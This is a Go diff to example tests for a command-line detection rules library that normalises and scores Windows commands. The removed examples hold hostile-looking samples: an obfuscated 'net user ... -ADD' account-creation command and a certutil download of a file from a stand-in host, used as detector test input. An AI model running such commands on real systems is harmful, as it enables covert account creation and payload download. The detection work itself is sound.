@@ -6,7 +6,7 @@ import (
 	"scorecmdline/src/rules"
 )
 
-func Example() {
+func ExampleParsePack() {
 	pack, err := rules.ParsePack("demo.rules.toml", []byte(`
 [pack]
 description = "account creation"
@@ -23,31 +23,10 @@ risk        = 60
 		fmt.Println(err)
 		return
 	}
-	set, err := rules.Compile(pack)
-	if err != nil {
-		fmt.Println(err)
-		return
-	}
-	m := set.NewMatcher()
-	for _, line := range []string{
-		`cmd.exe /c "N^et UsEr bob P@ss -ADD"`,
-		`net user bob`,
-	} {
-		hits := m.Match([]byte(line), nil)
-		fmt.Printf("%s\n  normalized: %s\n  hits:", line, m.Normalized())
-		for _, i := range hits {
-			r := set.Rules()[i]
-			fmt.Printf(" %s (flag %s, risk %d)", r.Name, r.Flag, r.Risk)
-		}
-		fmt.Println()
-	}
+	r := pack.Rules[0]
+	fmt.Printf("%s: %s line %d risk %d level %v\n", pack.Name, r.Name, r.Line, r.Risk, r.Level)
 	// Output:
-	// cmd.exe /c "N^et UsEr bob P@ss -ADD"
-	//   normalized: cmd /c net user bob p@ss -add
-	//   hits: net_user_add (flag user_creation, risk 60)
-	// net user bob
-	//   normalized: net user bob
-	//   hits:
+	// demo: net_user_add line 5 risk 60 level high
 }
 
 func ExampleParsePack_error() {
@@ -66,10 +45,9 @@ risk = 20
 	// demo.rules.toml:7: rule reg_add: unknown key: "anyy" (did you mean "any"?)
 }
 
-func ExampleNormalize() {
-	fmt.Printf("%s\n", rules.Normalize(nil, []byte(`"C:\Windows\System32\CERTUTIL.EXE"  -url^cache  -f http://x/a.bin a.bin`)))
-	fmt.Printf("%s\n", rules.Normalize(nil, []byte(`echo|set /p="MZ">x`)))
+func ExampleParsePhrase() {
+	p, _ := rules.ParsePhrase(`Net User ... /ADD`)
+	fmt.Printf("%q\n", p.Pieces)
 	// Output:
-	// c:\windows\system32\certutil -urlcache -f http://x/a.bin a.bin
-	// echo | set /p=mz > x
+	// ["net user" "-add"]
 }
